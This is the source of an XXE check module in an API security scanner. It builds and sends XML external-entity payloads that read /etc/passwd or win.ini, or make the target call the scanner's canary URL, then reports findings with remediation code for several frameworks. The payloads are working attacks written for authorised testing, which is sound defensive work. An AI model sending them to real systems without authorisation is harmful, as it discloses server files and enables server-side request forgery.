/**
 * injection.xxe — XML external entity injection. Tried on operations whose body is XML, and on
 * those with a JSON or form body that also take the same data as XML (the content-type switch:
 * the sample's body re-encoded as XML is sent with `content-type: application/xml`; a 2xx like the
 * sample's means the endpoint parses XML). A harmless DOCTYPE goes first: an endpoint that refuses
 * it is not probed further. Then, stopping at the first proof per operation: an external entity
 * reading /etc/passwd (or win.ini) in the body's text fields, proved by the file's lines in the
 * answer; external entities (general and parameter) pointing at the scanner's canary, proved by
 * the hit (all sent first, the hits awaited once for the whole check); and, at medium severity, an
 * internal entity whose expansion comes back in the answer (DTDs are processed). The expanded
 * marker is split across two entities, so an API that echoes the raw body never shows it. No
 * expansion bombs, no device files.
 */
import { randomBytes } from 'node:crypto';
import type { Check, CheckContext } from '../../check.js';
import type { ApiOperation, Exchange, ScanRequest } from '../../model.js';
import { encodeXml, isXmlContentType, xmlRootName } from '../../explore/build-request.js';
import { headerOf } from './inputs.js';
import { isSafeMethod, locationOf, shown } from './probe.js';
import { exampleOf, synthesizedSample } from './synthesize.js';
import { leafName, renderXml, textLeaves, xmlTemplate, type XmlLeaf, type XmlTemplate } from './xml-template.js';

/** How long the target has to call the canary after the last request of the check. */
const HIT_WAIT_MS = 3000;
/** Leaves tried one at a time when a probe in every leaf at once was refused (validation). */
const MAX_SINGLE_LEAVES = 3;

interface LocalFile {
  readonly uri: string;
  readonly name: string;
  readonly proof: RegExp;
}

const FILES: readonly LocalFile[] = [
  { uri: 'file:///etc/passwd', name: '/etc/passwd', proof: /root:[^:\r\n"<>\\]{0,40}:0:0:/ },
  { uri: 'file:///c:/windows/win.ini', name: 'c:/windows/win.ini', proof: /\[fonts\]|; for 16-bit app support/i },
];

// ---- targets --------------------------------------------------------------------------------

interface XmlTarget {
  readonly operation: ApiOperation;
  readonly location: string;
  readonly user: string | null;
  /** The request carrying the plain XML body; the probes rewrite its body. */
  readonly request: ScanRequest;
  readonly template: XmlTemplate;
  /** The 2xx answer to the plain XML body; null when the operation did not answer 2xx. */
  readonly baseline: Exchange | null;
  /** Set when the operation is described with another body type and accepted XML instead. */
  readonly switched?: { readonly from: string; readonly exchange: Exchange };
  /** A PUT or PATCH sample, sent again after the probes to put the object back. */
  readonly restore?: ScanRequest;
}

const is2xx = (e: Exchange): boolean => e.response !== null && e.response.status >= 200 && e.response.status < 300;

function withContentType(headers: Readonly<Record<string, string>>, type: string): Record<string, string> {
  const out: Record<string, string> = {};
  for (const [k, v] of Object.entries(headers)) if (k.toLowerCase() !== 'content-type') out[k] = v;
  out['content-type'] = type;
  return out;
}

/** The data of a JSON or form body, or undefined. */
function bodyData(type: string, body: string): unknown {
  if (type.includes('x-www-form-urlencoded')) return Object.fromEntries(new URLSearchParams(body));
  if (!type.includes('json')) return undefined;
  try {
    return JSON.parse(body) as unknown;
  } catch {
    return undefined;
  }
}

/** The operation as a target: its XML body (from the sample, else the description), or its JSON/form data sent as XML. */
async function xmlTarget(ctx: CheckContext, op: ApiOperation): Promise<XmlTarget | null> {
  const rb = op.requestBody;
  if (rb === undefined) return null;
  const location = locationOf(ctx.api, op);
  const samples = (ctx.samples.get(op.id) ?? []).filter((s) => is2xx(s.exchange) && typeof s.request.body === 'string' && s.request.body.length > 0);
  const sample = samples.find((s) => s.user !== null) ?? samples[0];
  const restore = op.method === 'PUT' || op.method === 'PATCH' ? sample?.request : undefined;
  if (isXmlContentType(rb.contentType)) {
    const template = sample === undefined ? null : xmlTemplate(sample.request.body!);
    if (sample !== undefined && template !== null) return { operation: op, location, user: sample.user, request: sample.request, template, baseline: sample.exchange, ...(restore ? { restore } : {}) };
    // Never answered 2xx during exploration: a request built from the description.
    const synth = synthesizedSample(ctx, { ...op, requestBody: { ...rb, contentType: 'application/json' } });
    if (synth === null) return null;
    const example = rb.example;
    const xml = typeof example === 'string' && example.trim().startsWith('<') ? example : encodeXml(example ?? exampleOf(rb.schema), rb.schema, xmlRootName(op));
    const built = xmlTemplate(xml);
    if (built === null) return null;
    const request: ScanRequest = { ...synth.request, headers: withContentType(synth.request.headers, rb.contentType), body: xml };
    const first = await ctx.client.send(request, { as: synth.user });
    return { operation: op, location, user: synth.user, request, template: built, baseline: is2xx(first) ? first : null };
  }
  // The content-type switch: the sample's data as XML.
  if (sample === undefined) return null;
  const type = (headerOf(sample.request.headers, 'content-type') ?? '').toLowerCase();
  const data = bodyData(type, sample.request.body!);
  if (data === undefined || data === null || typeof data !== 'object') return null;
  const xml = encodeXml(data, rb.schema, xmlRootName(op));
  const template = xmlTemplate(xml);
  if (template === null || template.leaves.length === 0) return null;
  const request: ScanRequest = { ...sample.request, headers: withContentType(sample.request.headers, 'application/xml'), body: xml };
  const answer = await ctx.client.send(request, { as: sample.user });
  if (!is2xx(answer)) return null;
  return { operation: op, location, user: sample.user, request, template, baseline: answer, switched: { from: type.split(';')[0]!.trim(), exchange: answer }, ...(restore ? { restore } : {}) };
}

// ---- probes ---------------------------------------------------------------------------------

interface Proof {
  readonly exchange: Exchange;
  /** The leaf the reference was in (null: in every text leaf). */
  readonly leaf: XmlLeaf | null;
}

interface CanaryProbe {
  readonly url: string;
  readonly kind: 'general' | 'parameter';
  readonly exchange: Exchange;
}

/** What an operation showed before the canary's hits are known. */
interface Pending {
  readonly target: XmlTarget;
  readonly canary: readonly CanaryProbe[];
  readonly internal: { readonly proof: Proof; readonly marker: string } | null;
}

const doctype = (root: string, declarations: string): string => `<!DOCTYPE ${root} [${declarations}]>`;

function send(ctx: CheckContext, t: XmlTarget, body: string): Promise<Exchange> {
  return ctx.client.send({ ...t.request, body }, { as: t.user });
}

/**
 * Sends `ref` in every text leaf at once; when that is refused (a field's validation, such as a
 * maximum length, rejects the expanded text), in each leaf alone. Answers the first proof.
 */
async function inLeaves(ctx: CheckContext, t: XmlTarget, dtd: string, ref: string, isProof: (e: Exchange) => boolean): Promise<Proof | null> {
  const leaves = textLeaves(t.template);
  if (leaves.length === 0 || !ctx.client.canSend()) return null;
  const all = await send(ctx, t, renderXml(t.template, dtd, leaves, ref));
  if (isProof(all)) return { exchange: all, leaf: leaves.length === 1 ? leaves[0]! : null };
  if (is2xx(all) || leaves.length === 1 || all.response?.status === 429) return null;
  for (const leaf of leaves.slice(0, MAX_SINGLE_LEAVES)) {
    if (!ctx.client.canSend()) return null;
    const one = await send(ctx, t, renderXml(t.template, dtd, [leaf], ref));
    if (isProof(one)) return { exchange: one, leaf };
  }
  return null;
}

function where(t: XmlTarget, proof: Proof): string {
  return proof.leaf === null ? 'in every text element' : `in <${leafName(t.template, proof.leaf)}>`;
}

function status(e: Exchange): string {
  return e.response === null ? `no answer (${e.error ?? 'error'})` : `HTTP ${e.response.status}`;
}

/** How the XML got there, for details: nothing for an XML operation, the switch otherwise. */
function preamble(t: XmlTarget): string {
  return t.switched === undefined
    ? ''
    : `The operation is described with a body of type ${t.switched.from}, but it accepted the same data as XML (content-type application/xml, ${status(t.switched.exchange)}). `;
}

function evidence(t: XmlTarget, ...exchanges: Exchange[]): Exchange[] {
  return t.switched === undefined ? exchanges : [t.switched.exchange, ...exchanges];
}

/** Probes one target: reports a file read at once, answers what needs the canary's verdict. */
async function probe(ctx: CheckContext, t: XmlTarget): Promise<Pending | null> {
  const baseBody = t.baseline?.response?.body ?? '';
  if (t.baseline !== null) {
    // A harmless DOCTYPE: an endpoint that refuses it (the safe setting) cannot be attacked this way.
    if (!ctx.client.canSend()) return null;
    const gate = await send(ctx, t, renderXml(t.template, doctype(t.template.root, '<!ENTITY herdok "ok">'), [], ''));
    if (!is2xx(gate)) return null;
  }
  for (const file of FILES) {
    if (file.proof.test(baseBody)) continue;
    const proof = await inLeaves(ctx, t, doctype(t.template.root, `<!ENTITY herd SYSTEM "${file.uri}">`), '&herd;', (e) => e.response !== null && file.proof.test(e.response.body));
    if (proof === null) continue;
    const seen = file.proof.exec(proof.exchange.response!.body)![0];
    ctx.report({
      location: t.location,
      key: 'external-entity',
      detail: `${preamble(t)}A DOCTYPE declaring the external entity SYSTEM "${file.uri}", referenced ${where(t, proof)}, brought the content of ${file.name} (${shown(seen)}) into the ${status(proof.exchange)} answer: the XML parser resolves external entities, so the API discloses any file the server can read and fetches URLs chosen by the caller.`,
      evidence: evidence(t, proof.exchange),
    });
    return null;
  }
  const canary: CanaryProbe[] = [];
  const leaves = textLeaves(t.template);
  if (leaves.length > 0 && ctx.client.canSend()) {
    const url = ctx.canary.url(`xxe ${t.location} general`);
    canary.push({ url, kind: 'general', exchange: await send(ctx, t, renderXml(t.template, doctype(t.template.root, `<!ENTITY herd SYSTEM "${url}">`), leaves.slice(0, 1), '&herd;')) });
  }
  if (ctx.client.canSend()) {
    const url = ctx.canary.url(`xxe ${t.location} parameter`);
    canary.push({ url, kind: 'parameter', exchange: await send(ctx, t, renderXml(t.template, doctype(t.template.root, `<!ENTITY % herd SYSTEM "${url}"> %herd;`), [], '')) });
  }
  // The expanded marker is in no request: two entities, each holding a part of it.
  const a = `herdxxe${randomBytes(3).toString('hex')}`;
  const b = randomBytes(3).toString('hex');
  const marker = `${a}${b}`;
  const proof = baseBody.includes(marker)
    ? null
    : await inLeaves(ctx, t, doctype(t.template.root, `<!ENTITY herda "${a}"><!ENTITY herdb "${b}">`), '&herda;&herdb;', (e) => e.response !== null && e.response.body.includes(marker) && !(e.request.body ?? '').includes(marker));
  return { target: t, canary, internal: proof === null ? null : { proof, marker } };
}

function reportPending(ctx: CheckContext, p: Pending, hit: CanaryProbe | null): void {
  const t = p.target;
  if (hit !== null) {
    const entity = hit.kind === 'general' ? `the external entity SYSTEM "${hit.url}", referenced in <${leafName(t.template, textLeaves(t.template)[0]!)}>` : `the external parameter entity SYSTEM "${hit.url}", referenced in the DTD`;
    ctx.report({
      location: t.location,
      key: 'external-entity',
      detail: `${preamble(t)}A DOCTYPE declaring ${entity} was answered ${status(hit.exchange)}, and the scanner's canary received a request for that URL from the target: the XML parser loads external entities (blind XXE: files can be sent out through a crafted external DTD, and internal hosts reached).`,
      evidence: evidence(t, hit.exchange),
    });
  } else if (p.internal !== null) {
    ctx.report({
      location: t.location,
      key: 'internal-entity',
      severity: 'medium',
      detail: `${preamble(t)}A DOCTYPE declaring two internal entities, referenced ${where(t, p.internal.proof)}, came back expanded (${p.internal.marker}, text no request contained) in the ${status(p.internal.proof.exchange)} answer: the XML parser processes DTDs. External entities were not seen to resolve here, but DTD processing allows entity-expansion denial of service and is one parser setting away from XXE.`,
      evidence: evidence(t, p.internal.proof.exchange),
    });
  }
}

export const xxe: Check = {
  id: 'injection.xxe',
  title: 'XML external entity (XXE) injection',
  severity: 'high',
  cwe: 'CWE-611',
  owasp: 'API8:2023',
  appliesTo: 'rest',
  description:
    'The API parses XML with DTD processing on, so a request body that declares an external entity (<!ENTITY x SYSTEM "file:///etc/passwd">) makes the parser read local files into the document, fetch URLs from the server (SSRF into the internal network and cloud metadata), or send data out through a crafted external DTD when nothing is reflected; internal entities allow expansion bombs that exhaust memory (OWASP Top 10 2017 A4 XML External Entities; 2021 A05:2021 Security Misconfiguration). Endpoints described as JSON are often affected too, when their framework also accepts XML bodies. The API Security Top 10 (2023) has no injection category; herd files it under API8:2023 Security Misconfiguration.',
  remediation: {
    summary:
      'Turn DTDs off in every XML parser the API uses: refuse documents with a DOCTYPE, never expand entities and never load external DTDs or entities. Prefer parsers that cannot (Go encoding/xml, defusedxml, fast-xml-parser with entity processing off). Accept XML only on the endpoints that need it: a JSON endpoint should answer 415 to other content types. Cap the body size.',
    snippets: {
      Express: `import libxmljs from 'libxmljs2';

app.post('/api/notes/import', express.text({ type: ['application/xml', 'text/xml'], limit: '100kb' }), (req, res) => {
  if (/<!DOCTYPE/i.test(req.body)) return res.status(400).json({ error: 'DTDs are not accepted' });
  // noent: false keeps entities unexpanded, dtdload: false and nonet: true load nothing
  const doc = libxmljs.parseXml(req.body, { noent: false, dtdload: false, dtdvalid: false, nonet: true });
  res.json({ title: doc.get('//title')?.text() });
});`,
      Fastify: `import { XMLParser, XMLValidator } from 'fast-xml-parser';
// fast-xml-parser never loads external entities; processEntities: false also ignores DTD entities
const parser = new XMLParser({ processEntities: false });

app.addContentTypeParser(['application/xml', 'text/xml'], { parseAs: 'string', bodyLimit: 100_000 }, (req, body, done) => {
  if (/<!DOCTYPE/i.test(body) || XMLValidator.validate(body) !== true) {
    return done(Object.assign(new Error('send XML without a DOCTYPE'), { statusCode: 400 }));
  }
  done(null, parser.parse(body));
});`,
      NestJS: `@Injectable()
export class SafeXmlPipe implements PipeTransform<string> {
  private readonly parser = new XMLParser({ processEntities: false }); // fast-xml-parser
  transform(raw: unknown) {
    if (typeof raw !== 'string' || /<!DOCTYPE/i.test(raw)) throw new BadRequestException('send XML without a DOCTYPE');
    return this.parser.parse(raw);
  }
}

@Post('import')
importNote(@Body(SafeXmlPipe) note: NoteXml) { /* ... */ }`,
      'Django/DRF': `# pip install defusedxml: refuses DTDs, entities and external references
from defusedxml import ElementTree as ET
from defusedxml.common import DefusedXmlException

@api_view(["POST"])
def import_note(request):
    try:
        root = ET.fromstring(request.body, forbid_dtd=True)
    except (DefusedXmlException, ET.ParseError):
        return Response({"error": "invalid XML"}, status=400)
    return Response({"title": root.findtext("title")})`,
      Flask: `from lxml import etree

# No entity expansion, no DTD loading, no network
PARSER = etree.XMLParser(resolve_entities=False, load_dtd=False, no_network=True, huge_tree=False)

@app.post("/api/notes/import")
def import_note():
    root = etree.fromstring(request.get_data(), parser=PARSER)
    return {"title": root.findtext("title")}`,
      Spring: `DocumentBuilderFactory dbf = DocumentBuilderFactory.newInstance();
dbf.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
dbf.setFeature("http://xml.org/sax/features/external-general-entities", false);
dbf.setFeature("http://xml.org/sax/features/external-parameter-entities", false);
dbf.setFeature("http://apache.org/xml/features/nonvalidating/load-external-dtd", false);
dbf.setXIncludeAware(false);
dbf.setExpandEntityReferences(false);
Document doc = dbf.newDocumentBuilder().parse(new InputSource(new StringReader(body)));`,
      Rails: `# Nokogiri's defaults do not substitute entities or load DTDs: never add NOENT or DTDLOAD
doc = Nokogiri::XML(request.raw_post) { |config| config.strict.nonet }
raise ActionController::BadRequest, "DTDs are not accepted" if doc.internal_subset
# NOT: Nokogiri::XML(xml) { |config| config.noent.dtdload }`,
      'Go net/http': `// encoding/xml never loads DTDs or resolves external entities
func importNote(w http.ResponseWriter, r *http.Request) {
    var note struct {
        Title string \`xml:"title"\`
        Body  string \`xml:"body"\`
    }
    if err := xml.NewDecoder(http.MaxBytesReader(w, r.Body, 100<<10)).Decode(&note); err != nil {
        http.Error(w, "invalid XML", http.StatusBadRequest)
        return
    }
    json.NewEncoder(w).Encode(note)
}`,
    },
    references: [
      'https://cheatsheetseries.owasp.org/cheatsheets/XML_External_Entity_Prevention_Cheat_Sheet.html',
      'https://owasp.org/www-community/vulnerabilities/XML_External_Entity_(XXE)_Processing',
      'https://owasp.org/API-Security/editions/2023/en/0xa8-security-misconfiguration/',
      'https://cwe.mitre.org/data/definitions/611.html',
    ],
  },
  async run(ctx: CheckContext): Promise<void> {
    if (ctx.api.kind !== 'rest') return;
    const pending: Pending[] = [];
    for (const op of ctx.api.operations) {
      if (!ctx.client.canSend()) break;
      // DELETE is never replayed with payloads; --safe allows only safe methods (the client refuses the rest).
      if (op.method === 'DELETE' || op.requestBody === undefined || (ctx.safe && !isSafeMethod(op.method))) continue;
      let target: XmlTarget | null = null;
      try {
        target = await xmlTarget(ctx, op);
        if (target === null) continue;
        const p = await probe(ctx, target);
        if (p !== null) pending.push(p);
      } catch (err) {
        // A hostile answer must not stop the scan: log and move on to the next operation.
        ctx.log('xxe probe failed', { location: locationOf(ctx.api, op), error: err instanceof Error ? err.message : String(err) });
      } finally {
        if (target?.restore !== undefined && ctx.client.canSend()) await ctx.client.send(target.restore, { as: target.user });
      }
    }
    // One wait for the whole check: every canary URL had at least HIT_WAIT_MS to be called.
    const deadline = Date.now() + HIT_WAIT_MS;
    for (const p of pending) {
      let hit: CanaryProbe | null = null;
      for (const c of p.canary) {
        if (await ctx.canary.wasHit(c.url, Math.max(0, deadline - Date.now()))) {
          hit = c;
          break;
        }
      }
      reportPending(ctx, p, hit);
    }
  },
};
